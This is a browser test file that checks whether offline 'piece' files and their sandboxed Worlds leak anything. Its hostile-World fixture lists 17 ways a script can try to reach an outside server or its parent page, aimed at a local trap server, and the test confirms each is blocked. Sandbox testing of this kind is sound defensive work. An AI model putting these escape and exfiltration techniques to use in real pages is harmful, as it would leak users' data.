import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Page } from 'playwright'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { findEntityPublication } from '#lib/core/entities/find-publication.ts'
import { pieceFile } from '#lib/features/piece-file/index.ts'
import type { SlotChoice } from '#lib/protocol/world-slots.ts'
import { sampleWorlds } from '#scripts/example-network/sample-worlds.ts'
import { packWorld } from '#scripts/world-kit/world-folder.ts'
import { makeBundle } from '#test/core/worlds/support/bundle.ts'
import { testBrowser } from '#test/support/browser.ts'
import { listen } from '#test/support/listen.ts'
import { type PieceNetwork, startPieceNetwork, twoVoices } from './pieces.ts'

/* Files of pieces, opened from a disk without a network, with every sample World. */

const STEPS = 48
const WORLDS = sampleWorlds()
const folder = mkdtempSync(join(tmpdir(), 'weft-pieces-'))
const browser = testBrowser()
/** For Worlds in three dimensions only: a graphics processor made of software starves pages that draw flat. */
const solidBrowser = testBrowser({ solid: true })
const trap = createServer((request, response) => {
  caught.push(String(request.url))
  response.end()
})
const caught: string[] = []
const pages: Page[] = []
let network: PieceNetwork
let site: Awaited<ReturnType<PieceNetwork['site']>>
let trapAt: string

beforeAll(async () => {
  trapAt = `127.0.0.1:${await listen(trap)}`
  trap.on('upgrade', (request, socket) => {
    caught.push(String(request.url))
    socket.destroy()
  })
  network = await startPieceNetwork()
  site = await network.site()
  for (const { folder: files, slug } of WORLDS) {
    const { bundleHash } = await site.upload(await packWorld(files))
    await publishWith(nameOf(slug), bundleHash, slug)
    if (slug === 'piano-roll') {
      await publishWith('slotted', bundleHash, slug, [{ slot: 'velocity', connector: 'bare' }])
    }
  }
  const hostile = await site.upload(hostileWorld())
  await publishWith('hostile', hostile.bundleHash, 'hostile')
  await network.publish(twoVoices('bare'))
  await site.projected()
})
afterEach(async () => {
  for (const page of pages.splice(0)) await page.context().close()
})
afterAll(async () => {
  trap.closeAllConnections()
  trap.close()
  await network?.close()
  rmSync(folder, { recursive: true, force: true })
})

function nameOf(slug: string): string {
  return slug.replaceAll('-', '_')
}

function publishWith(
  name: string,
  bundleHash: string,
  slug: string,
  slots?: readonly SlotChoice[],
): Promise<void> {
  return network.publish(twoVoices(name), {
    title: `A piece for ${slug}`,
    present: {
      ...{ particles: STEPS, tempo: 480, loop: true },
      world: { bundle_hash: bundleHash, slug, ...(slots && { slots }) },
      knobs: [{ name: 'leap', at: 'call/0/0/0', min: 1, max: 7 }],
    },
  })
}

/** A World that tries to reach a trap in every way that a script has. */
function hostileWorld() {
  const script = `
    import { createWorldSdk } from '../../js/sdk/world-runtime.js'
    const at = (path) => 'http://${trapAt}/' + path
    const tries = [
      () => fetch(at('fetch'), { mode: 'no-cors' }),
      () => { new Image().src = at('image') },
      () => navigator.sendBeacon(at('beacon'), 'x'),
      () => new WebSocket('ws://${trapAt}/socket'),
      () => new EventSource(at('events')),
      () => import(at('import')),
      () => { const f = document.createElement('iframe'); f.src = at('frame'); document.body.append(f) },
      () => { const s = document.createElement('script'); s.src = at('script'); document.body.append(s) },
      () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = at('style'); document.head.append(l) },
      () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = at('prefetch'); document.head.append(l) },
      () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at('worker') + "')"]))),
      () => { document.body.style.background = 'url(' + at('background') + ')' },
      () => { const f = document.createElement('form'); f.action = at('form'); document.body.append(f); f.submit() },
      () => open(at('window')),
      () => { parent.location = at('parent') },
      () => new Function('fetch("' + at('eval') + '")')(),
      () => { document.title = parent.document.title },
    ]
    let thrown = 0
    for (const each of tries) try { Promise.resolve(each()).catch(() => {}) } catch { thrown++ }
    // Once it was looked at: what has left shows nothing any more.
    document.body.addEventListener('leave', () => setTimeout(() => { location = at('self') }))
    const sdk = createWorldSdk({ worldId: 'hostile' })
    sdk.onState(() => {
      document.body.dataset.rtc = String(globalThis.RTCPeerConnection)
      document.body.dataset.tried = String(tries.length)
    })
    sdk.ready()
  `
  return makeBundle({ slug: 'hostile', acceptedConnectorSets: [], valueLimits: undefined }, [
    { name: 'world.js', content: script },
    {
      name: 'index.html',
      content: `<!doctype html><meta http-equiv="refresh" content="9;url=http://${trapAt}/refresh"><body onload="fetch('http://${trapAt}/handler')"><img src="http://${trapAt}/markup"><script>document.body.dataset.inline = 'ran'</script><script type="module" src="world.js"></script>`,
    },
  ])
}

/** Opens the file of a piece from the disk; everything that it asks for is noted. */
async function open(
  name: string,
  { change = (text: string) => text, offline = true, within = browser } = {},
) {
  const { bytes } = await pieceFile(site.ctx, name)
  const path = join(folder, `${name}.html`)
  writeFileSync(path, change(new TextDecoder().decode(bytes)))
  const page = await (await within().newContext({ offline })).newPage()
  pages.push(page)
  // Every document records the states that it is sent.
  await page.addInitScript(() => {
    // Opening the document again, as the file does, drops listeners.
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    Object.defineProperty(MessageEvent.prototype, 'data', {
      ...data,
      get(this: MessageEvent) {
        const message = data?.get?.call(this)
        if (message?.type === 'dcn:world-state') Object.assign(window, { weftState: message.payload })
        return message
      },
    })
  })
  const requests: string[] = []
  const errors: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  page.on('pageerror', (error) => errors.push(String(error)))
  await page.goto(pathToFileURL(path).href)
  const outside = () => requests.filter((url) => !/^(?:blob:|data:|about:)/.test(url)).slice(1)
  return { page, outside, errors, bytes: bytes.length }
}

async function chainValues(name: string): Promise<string> {
  const answer = await network.registry.generate(name, STEPS, [], 100_000_000n)
  if (!answer.ok) throw new Error(`${name} reverts`)
  return answer.particles.map(({ path, data }) => `${path} ${[...data].join(' ')}`).join('\n')
}

async function check(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Check' }).click()
  const verdict = page.locator('.verdict')
  await expect.poll(() => verdict.textContent()).toMatch(/^(Consistent|This file)/)
  return (await verdict.textContent()) ?? ''
}

test.each(WORLDS.map(({ slug }) => slug))('%s plays from the disk what the chain gives', async (slug) => {
  const name = nameOf(slug)
  const within = slug === 'cloth' ? solidBrowser : browser
  const { page, outside, errors, bytes } = await open(name, { within })
  await expect.poll(() => page.title()).toBe(`A piece for ${slug}`)
  await expect.poll(() => page.locator('.values').textContent()).toBe(await chainValues(name))
  await page.locator('iframe[data-ready]').waitFor()
  await page.frameLocator('iframe').locator('canvas, svg').first().waitFor()
  // Policy and prelude come before anything of the World.
  const head = page.frameLocator('iframe').locator('head > *')
  expect((await head.evaluateAll((all) => all.map(({ localName }) => localName))).slice(0, 2)).toEqual([
    'meta',
    'script',
  ])
  const state = () =>
    page
      .frames()
      .at(-1)
      ?.evaluate(() => (window as unknown as { weftState?: object }).weftState)
  const { address, formatHash } = (await findEntityPublication(site.ctx, 'connector', name)) ?? {}
  const known = {
    ...{ protocolVersion: 1, connectorName: name, executionMode: 'simulate' },
    label: expect.stringContaining(name),
    connectorFormatHash: formatHash?.slice(2),
  }
  await expect.poll(state).toMatchObject({ ...known, connectorAddress: address })
  await page.locator('.bar button').click()
  await expect.poll(() => page.locator('.position').textContent()).not.toMatch(/^(|step 1 of 48)$/)
  await page.getByRole('slider', { name: 'leap' }).fill('5')
  const first = () => page.locator('.values').textContent()
  await expect.poll(async () => (await first())?.split('\n')[0]).toMatch(/ 0 5 10 15 20 1 /)
  // Numbers that a reader turned are another connector than the published one.
  await expect.poll(state).not.toHaveProperty('connectorAddress')
  expect(await state()).toMatchObject(known)
  expect(await check(page)).toMatch(/^Consistent: if the registry/)
  expect(outside()).toEqual([])
  expect(errors).toEqual([])
  expect(bytes).toBeLessThan(600_000)
})

test('a connector chosen for another slot of the World is in the file, and feeds it', async () => {
  const { page } = await open('slotted')
  await page.locator('iframe[data-ready]').waitFor()
  const state = () =>
    page
      .frames()
      .at(-1)
      ?.evaluate(() => (window as unknown as { weftState?: object }).weftState)
  await expect.poll(state).toMatchObject({
    connectorBindings: expect.arrayContaining([
      expect.objectContaining({
        slot: 'velocity',
        connectorName: 'bare',
        executeOutput: [
          expect.objectContaining({ path: '/bare:0' }),
          expect.objectContaining({ path: '/bare:1' }),
        ],
      }),
    ]),
  })
})

test('a piece without a World is drawn from its numbers', async () => {
  const { page, errors } = await open('bare')
  await page.getByRole('img', { name: '2 voices of 64 steps' }).waitFor()
  expect(await check(page)).toMatch(/^Consistent/)
  expect(errors).toEqual([])
})

test('a file that was changed says so', async () => {
  const { page } = await open('bare', { change: (text) => text.replace('"count":64', '"count":63') })
  expect(await check(page)).toMatch(/^This file is not what it says/)
})

test('nothing of a hostile World reaches the network, its page or WebRTC', async () => {
  const { page, outside } = await open('hostile', { offline: false })
  const world = page.frameLocator('iframe').locator('body')
  await expect.poll(() => world.getAttribute('data-tried')).toBe('17')
  expect(await world.getAttribute('data-rtc')).toBe('undefined')
  expect(await world.getAttribute('data-inline')).toBe('ran')
  expect(await check(page)).toMatch(/^Consistent/)
  // Its last try is to leave.
  await world.dispatchEvent('leave')
  await expect.poll(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/')
  expect(page.url()).toMatch(/^file:/)
  expect(caught).toEqual([])
  expect(outside().filter((url) => !url.startsWith('http:'))).toEqual([])
})
